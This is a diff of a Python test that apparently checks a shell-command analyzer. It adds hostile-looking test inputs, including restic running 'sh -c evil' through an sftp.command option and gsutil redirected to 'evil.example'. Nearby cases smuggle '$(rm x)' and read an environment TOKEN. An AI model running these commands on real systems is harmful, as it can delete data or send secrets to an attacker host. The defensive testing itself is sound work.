@@ -156,6 +156,8 @@ def test_what_changes_something_is_said_with_its_targets(text: str, effects: set
         "echo \"it's $(rm x)\" 'b'",
         "cat <<'E'\n$(rm x)\nE",
         "jq '$ENV.TOKEN' a.json",
+        "restic -o sftp.command='sh -c evil' ls latest",
+        "gsutil -o Boto:gs_host=evil.example ls gs://b",
     ],
 )
 def test_what_is_not_certain_is_unknown(text: str) -> None:
